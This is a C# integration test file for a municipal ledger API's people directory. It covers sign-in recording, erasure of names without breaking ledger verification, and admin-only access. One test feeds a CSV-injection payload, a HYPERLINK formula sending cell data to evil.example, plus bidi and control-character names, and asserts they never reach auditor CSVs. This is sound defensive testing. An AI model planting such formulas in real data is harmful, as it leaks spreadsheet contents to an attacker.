using System.Net;
using System.Security.Claims;
using System.Text.Json.Nodes;
using Microsoft.AspNetCore.Authentication;
using Microsoft.Extensions.DependencyInjection;
using NodaTime;
using NodaTime.Text;
using Sroi.Ledger.Api.EventLog;
using Sroi.Ledger.Api.Tests.Candidates;
using Sroi.Ledger.Api.Tests.Exports;
using Sroi.Ledger.Domain.Candidates;
using Sroi.Ledger.Domain.Shared;

namespace Sroi.Ledger.Api.Tests.People;

/// <summary>
/// The people directory: filled from a person's sign-in claims (a principal built here, as the OpenID Connect scheme
/// yields it under the claims contract), shown in the histories, erased without touching the ledger. A database of its
/// own: the verification after the erasure must find the whole ledger clean, which the shared one (with the audit tests'
/// forgeries) is not.
/// </summary>
public class PeopleDirectoryTests(LedgerApi api) : IClassFixture<LedgerApi>
{
    private static int sequence;

    /// <summary>A person's actor as the claims contract makes it: person: and 22 characters of Base64Url.</summary>
    private static string NewPersonActor() =>
        "person:" + Convert.ToBase64String(System.Security.Cryptography.SHA256.HashData(BitConverter.GetBytes(Interlocked.Increment(ref sequence) + Environment.TickCount64)))
            .Replace('+', '-').Replace('/', '_')[..22];

    private static ClaimsPrincipal SignedIn(string actor, string? name, string? email, Instant? signedInAt, string role = "wsp",
        string? municipality = "GM0603", string? kvk = null)
    {
        List<Claim> claims = [new("sroi:actor", actor), new("roles", role), new("sub", Guid.NewGuid().ToString())];
        if (name is not null) claims.Add(new Claim("name", name));
        if (email is not null) claims.Add(new Claim("email", email));
        if (municipality is not null) claims.Add(new Claim("municipality", municipality));
        if (kvk is not null) claims.Add(new Claim("kvk", kvk));
        if (signedInAt is { } at) claims.Add(new Claim("iat", at.ToUnixTimeSeconds().ToString(System.Globalization.CultureInfo.InvariantCulture)));
        return new ClaimsPrincipal(new ClaimsIdentity(claims, "test-oidc", "name", "roles"));
    }

    /// <summary>The service's clock: an erasure is timed by it, and a sign-in is compared with the erasure.</summary>
    private Instant Now() => api.Services.GetRequiredService<IClock>().GetCurrentInstant();

    private Task<ClaimsPrincipal> SignInAsync(ClaimsPrincipal principal) =>
        api.Services.GetRequiredService<IClaimsTransformation>().TransformAsync(principal);

    [Fact]
    public async Task A_persons_name_is_shown_in_the_history_until_erased_and_the_ledger_still_verifies_against_its_checkpoint()
    {
        var wsp = await api.ClientAsync("wsp");
        var number = await wsp.RegisterAsync();
        var url = $"/api/v1/candidates/{number}/history";
        var stream = (await (await wsp.GetAsync(url)).ShouldBeAsync(HttpStatusCode.OK))["stream"]!.GetValue<string>();
        var actor = NewPersonActor();
        await SignInAsync(SignedIn(actor, "M. de Vries", "m.devries@rijswijk.nl", Now()));
        // The person's write, through the service's own event log (so its commit is signed as every write's is).
        await api.Services.GetRequiredService<LedgerEvents>().AppendAsync(new AppendRequest(MunicipalityCode.Parse("GM0603"), new StreamId(stream), 1,
            [new TredeChanged(2, 3, new LocalDate(2020, 5, 1), "Herbeoordeling")],
            new EventMetadata(actor, "corr-person", ActorRole: "wsp", ActorOrganisation: "GM0603")));
        var auditor = await api.ClientAsync("auditor");

        var events = (await (await auditor.GetAsync(url)).ShouldBeAsync(HttpStatusCode.OK))["events"]!.AsArray();
        events[0]!["actorDisplay"]!.GetValue<string>().Should().Be("API-sleutel (WSP Rijswijk)");
        events[1]!["metadata"]!["actor"]!.GetValue<string>().Should().Be(actor);
        events[1]!["actorName"]!.GetValue<string>().Should().Be("M. de Vries");
        events[1]!["actorDisplay"]!.GetValue<string>().Should().Be("M. de Vries (WSP Rijswijk)");
        var csv = await CsvFile.GetAsync(auditor, url);
        (csv.Rows[1]["actor"], csv.Rows[1]["actor_naam"], csv.Rows[1]["actor_weergave"]).Should().Be((actor, "M. de Vries", "M. de Vries (WSP Rijswijk)"));
        // The name is never in the ledger itself.
        (await api.DataSource.ScalarAsync<long>("SELECT count(*) FROM mt_events WHERE data::text LIKE '%de Vries%' OR headers::text LIKE '%de Vries%' OR user_name LIKE '%de Vries%'"))
            .Should().Be(0);

        var checkpoint = await (await api.Admin().PostAsync("/api/v1/audit/checkpoints?municipality=GM0603", null)).ShouldBeAsync(HttpStatusCode.OK);
        checkpoint["refused"]!.AsArray().Should().BeEmpty();
        var checkpointId = checkpoint["checkpoints"]!.AsArray().Single()!["id"]!.GetValue<string>();
        var hashes = await api.DataSource.ScalarAsync<string>($"SELECT string_agg(encode(hash, 'hex'), ',' ORDER BY version) FROM sroi_event_hashes WHERE stream_id = '{stream}'");

        (await api.Admin().DeleteAsync($"/api/v1/people/{actor}")).StatusCode.Should().Be(HttpStatusCode.NoContent);
        (await api.Admin().DeleteAsync($"/api/v1/people/{actor}")).StatusCode.Should().Be(HttpStatusCode.NoContent, "erasing is idempotent");

        var person = await (await api.Admin().GetAsync($"/api/v1/people/{actor}")).ShouldBeAsync(HttpStatusCode.OK);
        person.AsObject().Should().ContainKeys("displayName", "email");
        person["displayName"].Should().BeNull();
        person["email"].Should().BeNull();
        person["erasedAt"]!.GetValue<string>().Should().NotBeNullOrEmpty();
        person["actsAs"]!.GetValue<string>().Should().Be("WSP Rijswijk", "role and organisation are no personal data and stay");
        var erased = (await (await auditor.GetAsync(url)).ShouldBeAsync(HttpStatusCode.OK))["events"]![1]!;
        erased["metadata"]!["actor"]!.GetValue<string>().Should().Be(actor, "the event keeps its actor id");
        erased.AsObject().Should().ContainKey("actorName");
        erased["actorName"].Should().BeNull();
        erased["actorDisplay"]!.GetValue<string>().Should().Be("Persoon (WSP Rijswijk)");
        var erasedCsv = await CsvFile.GetAsync(auditor, url);
        (erasedCsv.Rows[1]["actor"], erasedCsv.Rows[1]["actor_naam"], erasedCsv.Rows[1]["actor_weergave"]).Should().Be((actor, "", "Persoon (WSP Rijswijk)"));
        erasedCsv.Text.Should().NotContain("de Vries").And.NotContain("m.devries@");

        (await api.DataSource.ScalarAsync<string>($"SELECT string_agg(encode(hash, 'hex'), ',' ORDER BY version) FROM sroi_event_hashes WHERE stream_id = '{stream}'"))
            .Should().Be(hashes);
        var verification = await (await auditor.GetAsync($"/api/v1/audit/verification?checkpoint={checkpointId}")).ShouldBeAsync(HttpStatusCode.OK);
        verification["ok"]!.GetValue<bool>().Should().BeTrue(verification.ToJsonString());
        verification["discrepancies"]!.AsArray().Should().BeEmpty();
        verification["checkpoints"]!.AsArray().Single()!["signature"]!.GetValue<string>().Should().Be("valid");
        var all = await (await api.Admin().GetAsync("/api/v1/audit/verification")).ShouldBeAsync(HttpStatusCode.OK);
        all["ok"]!.GetValue<bool>().Should().BeTrue(all.ToJsonString());
    }

    [Fact]
    public async Task The_sign_in_fills_the_directory_once_per_five_minutes_and_a_new_sign_in_at_once()
    {
        var actor = NewPersonActor();
        var signIn = Now() - Duration.FromMinutes(1);
        var principal = SignedIn(actor, "J. Jansen", "j.jansen@denhaag.nl", signIn, "inkoop", "GM0518");

        (await SignInAsync(principal)).Should().BeSameAs(principal, "the principal is not changed");
        var first = await PersonAsync(actor);
        (first["displayName"]!.GetValue<string>(), first["email"]!.GetValue<string>(), first["role"]!.GetValue<string>(),
            first["organisation"]!.GetValue<string>(), first["actsAs"]!.GetValue<string>())
            .Should().Be(("J. Jansen", "j.jansen@denhaag.nl", "inkoop", "GM0518", "Inkoop Den Haag"));

        // Within five minutes of the same sign-in nothing is written, whatever the claims say now.
        await SignInAsync(SignedIn(actor, "J. Jansen-de Boer", null, signIn, "inkoop", "GM0518"));
        (await PersonAsync(actor))["displayName"]!.GetValue<string>().Should().Be("J. Jansen");
        (await PersonAsync(actor))["lastSeen"]!.GetValue<string>().Should().Be(first["lastSeen"]!.GetValue<string>());

        // A new sign-in writes at once.
        await SignInAsync(SignedIn(actor, "J. Jansen-de Boer", "j.jansen@denhaag.nl", signIn + Duration.FromSeconds(30), "inkoop", "GM0518"));
        var second = await PersonAsync(actor);
        second["displayName"]!.GetValue<string>().Should().Be("J. Jansen-de Boer");
        second["firstSeen"]!.GetValue<string>().Should().Be(first["firstSeen"]!.GetValue<string>());

        // A contractor's person acts for its company.
        var contractor = NewPersonActor();
        await SignInAsync(SignedIn(contractor, "P. Bakker", null, signIn, "opdrachtnemer", municipality: null, kvk: "12345678"));
        var bakker = await PersonAsync(contractor);
        (bakker["organisation"]!.GetValue<string>(), bakker["actsAs"]!.GetValue<string>()).Should().Be(("KvK 12345678", "KvK 12345678"));
    }

    [Fact]
    public async Task Erasing_a_person_erases_their_notification_read_marker_and_no_one_elses()
    {
        var actor = NewPersonActor();
        var other = NewPersonActor();
        await SignInAsync(SignedIn(actor, "R. Visser", "r.visser@rijswijk.nl", Now()));
        foreach (var reader in new[] { actor, other })
        {
            await using var marker = api.DataSource.CreateCommand(
                "INSERT INTO notification_read_markers (actor, txid, seq, read_at) VALUES ($1, '0'::xid8, 0, now())");
            marker.Parameters.Add(new Npgsql.NpgsqlParameter { Value = reader });
            await marker.ExecuteNonQueryAsync();
        }

        (await api.Admin().DeleteAsync($"/api/v1/people/{actor}")).StatusCode.Should().Be(HttpStatusCode.NoContent);

        await using var markers = api.DataSource.CreateCommand("SELECT actor FROM notification_read_markers WHERE actor = ANY($1)");
        markers.Parameters.Add(new Npgsql.NpgsqlParameter { Value = new[] { actor, other } });
        var left = new List<string>();
        await using (var rows = await markers.ExecuteReaderAsync())
            while (await rows.ReadAsync()) left.Add(rows.GetString(0));
        left.Should().Equal(other);
    }

    [Fact]
    public async Task An_erased_person_stays_erased_during_that_sign_in_and_is_named_again_after_signing_in_anew()
    {
        var actor = NewPersonActor();
        var signIn = Now() - Duration.FromMinutes(30);
        await SignInAsync(SignedIn(actor, "A. Smit", "a.smit@delft.nl", signIn, "auditor", "GM0503"));
        (await api.Admin().DeleteAsync($"/api/v1/people/{actor}")).StatusCode.Should().Be(HttpStatusCode.NoContent);
        var erasedAt = InstantPattern.ExtendedIso.Parse((await PersonAsync(actor))["erasedAt"]!.GetValue<string>()).Value;

        // A token of a sign-in from before the erasure (another one, so the throttle lets it write) does not bring the name back.
        await SignInAsync(SignedIn(actor, "A. Smit", "a.smit@delft.nl", signIn + Duration.FromMinutes(1), "auditor", "GM0503"));
        var still = await PersonAsync(actor);
        still["displayName"].Should().BeNull();
        still["email"].Should().BeNull();
        still["erasedAt"]!.GetValue<string>().Should().NotBeNull();

        // Signing in after the erasure is using the system again: the directory names who acts.
        await SignInAsync(SignedIn(actor, "A. Smit", "a.smit@delft.nl", erasedAt + Duration.FromSeconds(1), "auditor", "GM0503"));
        var back = await PersonAsync(actor);
        back["displayName"]!.GetValue<string>().Should().Be("A. Smit");
        back["erasedAt"].Should().BeNull();
    }

    [Fact]
    public async Task A_directory_that_cannot_be_written_fails_no_sign_in()
    {
        var actor = NewPersonActor();
        // The schema's owner makes the table refuse this one person, as a full disk or a lost connection would.
        await api.DataSource.ExecuteAsync($$"""
            CREATE OR REPLACE FUNCTION test_people_refuse() RETURNS trigger LANGUAGE plpgsql AS $$
            BEGIN IF NEW.actor = '{{actor}}' THEN RAISE EXCEPTION 'refused for the test'; END IF; RETURN NEW; END $$;
            DROP TRIGGER IF EXISTS test_people_refuse ON people;
            CREATE TRIGGER test_people_refuse BEFORE INSERT OR UPDATE ON people FOR EACH ROW EXECUTE FUNCTION test_people_refuse();
            """);
        try
        {
            var principal = SignedIn(actor, "K. Visser", null, Now());
            (await SignInAsync(principal)).Should().BeSameAs(principal);
            await (await api.Admin().GetAsync($"/api/v1/people/{actor}")).ShouldBeAsync(HttpStatusCode.NotFound);
        }
        finally
        {
            await api.DataSource.ExecuteAsync("DROP TRIGGER IF EXISTS test_people_refuse ON people; DROP FUNCTION IF EXISTS test_people_refuse();");
        }
    }

    [Fact]
    public async Task A_key_is_no_person_and_the_directory_is_for_admins_only()
    {
        var keyActor = SignedIn("wsp:01a24509-b502-4c7e-9f00-000000000001", "Niet opslaan", null, Now());
        await SignInAsync(keyActor);
        (await api.DataSource.ScalarAsync<long>("SELECT count(*) FROM people WHERE display_name = 'Niet opslaan'")).Should().Be(0);

        var actor = NewPersonActor();
        await SignInAsync(SignedIn(actor, "L. de Groot", "l.degroot@westland.nl", Now(), "wsp", "GM1783"));
        var list = await (await api.Admin().GetAsync("/api/v1/people?pageSize=100")).ShouldBeAsync(HttpStatusCode.OK);
        list["items"]!.AsArray().Select(p => p!["actor"]!.GetValue<string>()).Should().Contain(actor);
        list["total"]!.GetValue<long>().Should().Be(await api.DataSource.ScalarAsync<long>("SELECT count(*) FROM people"));
        (list["page"]!.GetValue<int>(), list["pageSize"]!.GetValue<int>()).Should().Be((1, 100));
        var one = await (await api.Admin().GetAsync("/api/v1/people?pageSize=1")).ShouldBeAsync(HttpStatusCode.OK);
        one["items"]!.AsArray().Should().ContainSingle();

        await (await api.Admin().GetAsync("/api/v1/people?pageSize=0")).ShouldNameFieldAsync("pageSize");
        // An id that is no person's names no one in the directory.
        await (await api.Admin().GetAsync("/api/v1/people/not-a-person")).ShouldBeAsync(HttpStatusCode.NotFound);
        await (await api.Admin().DeleteAsync("/api/v1/people/inkoop:01a24509-b502-4c7e-9f00-000000000001")).ShouldBeAsync(HttpStatusCode.NotFound);
        await (await api.Admin().GetAsync($"/api/v1/people/{NewPersonActor()}")).ShouldBeAsync(HttpStatusCode.NotFound);
        await (await api.Admin().DeleteAsync($"/api/v1/people/{NewPersonActor()}")).ShouldBeAsync(HttpStatusCode.NotFound);
        foreach (var role in new[] { "auditor", "wsp", "inkoop" })
        {
            var client = await api.ClientAsync(role);
            await (await client.GetAsync("/api/v1/people")).ShouldBeAsync(HttpStatusCode.Forbidden);
            await (await client.GetAsync($"/api/v1/people/{actor}")).ShouldBeAsync(HttpStatusCode.Forbidden);
            await (await client.DeleteAsync($"/api/v1/people/{actor}")).ShouldBeAsync(HttpStatusCode.Forbidden);
        }
        await (await api.Client().GetAsync("/api/v1/people")).ShouldBeAsync(HttpStatusCode.Unauthorized);
    }

    [Fact]
    public async Task A_person_without_a_ledger_role_is_not_recorded_in_the_directory()
    {
        // Signed in at the municipality's identity provider, but with no role here (a mayor, a colleague of another
        // department): refused everywhere, never acts, so the directory keeps no name or e-mail address of theirs.
        foreach (var role in new[] { "burgemeester", "Admin" })
        {
            var actor = NewPersonActor();
            await SignInAsync(SignedIn(actor, "B. Burger", "b.burger@rijswijk.nl", Now(), role));
            await (await api.Admin().GetAsync($"/api/v1/people/{actor}")).ShouldBeAsync(HttpStatusCode.NotFound);
        }
        (await api.DataSource.ScalarAsync<long>("SELECT count(*) FROM people WHERE display_name = 'B. Burger' OR email = 'b.burger@rijswijk.nl'")).Should().Be(0);
    }

    [Fact]
    public async Task A_name_claim_the_request_screens_would_refuse_is_not_kept_and_a_long_one_is_cut_on_a_character_boundary()
    {
        // A NUL (which PostgreSQL refuses in text) lost the whole directory write: the e-mail address and role too.
        var nul = NewPersonActor();
        await SignInAsync(SignedIn(nul, "K.\u0000 Visser", "k.visser@rijswijk.nl", Now()));
        var visser = await PersonAsync(nul);
        visser["displayName"].Should().BeNull();
        (visser["email"]!.GetValue<string>(), visser["actsAs"]!.GetValue<string>()).Should().Be(("k.visser@rijswijk.nl", "WSP Rijswijk"));

        // A bidi override (shows as another name), a line break and a lone surrogate are refused as a body's text is.
        foreach (var name in new[] { "Jan \u202Eseirv ed", "M. de Vries\r\nBeheer", "A. \uD83D Smit" })
        {
            var actor = NewPersonActor();
            await SignInAsync(SignedIn(actor, name, $"{actor[7..15]}@rijswijk.nl", Now()));
            (await PersonAsync(actor))["displayName"].Should().BeNull(name);
        }

        // 10 kB cut at 200 characters, but never through an emoji's surrogate pair (199 + 2 would cross it).
        var longName = NewPersonActor();
        await SignInAsync(SignedIn(longName, new string('a', 199) + "\U0001F44D" + new string('b', 10_000), null, Now()));
        (await PersonAsync(longName))["displayName"]!.GetValue<string>().Should().Be(new string('a', 199));

        // A spreadsheet formula from the identity provider (a self-chosen profile name) never reaches the CSV an auditor
        // opens in Excel: the CSV writes recorded values as they are, and a name from a token is not recorded.
        var wsp = await api.ClientAsync("wsp");
        var number = await wsp.RegisterAsync();
        var url = $"/api/v1/candidates/{number}/history";
        var stream = (await (await wsp.GetAsync(url)).ShouldBeAsync(HttpStatusCode.OK))["stream"]!.GetValue<string>();
        var formula = NewPersonActor();
        await SignInAsync(SignedIn(formula, "=HYPERLINK(\"https://evil.example/?\"&A1;\"M. de Vries\")", "@SUM(1+1)", Now()));
        await api.Services.GetRequiredService<LedgerEvents>().AppendAsync(new AppendRequest(MunicipalityCode.Parse("GM0603"), new StreamId(stream), 1,
            [new TredeChanged(2, 3, new LocalDate(2020, 5, 1), "Herbeoordeling")],
            new EventMetadata(formula, "corr-formula", ActorRole: "wsp", ActorOrganisation: "GM0603")));
        var person = await PersonAsync(formula);
        (person["displayName"], person["email"]).Should().Be((null, null));
        var csv = await CsvFile.GetAsync(await api.ClientAsync("auditor"), url);
        (csv.Rows[1]["actor"], csv.Rows[1]["actor_naam"], csv.Rows[1]["actor_weergave"]).Should().Be((formula, "", "Persoon (WSP Rijswijk)"));
        csv.Text.Should().NotContain("HYPERLINK");
    }

    private async Task<JsonNode> PersonAsync(string actor) =>
        await (await api.Admin().GetAsync($"/api/v1/people/{actor}")).ShouldBeAsync(HttpStatusCode.OK);
}
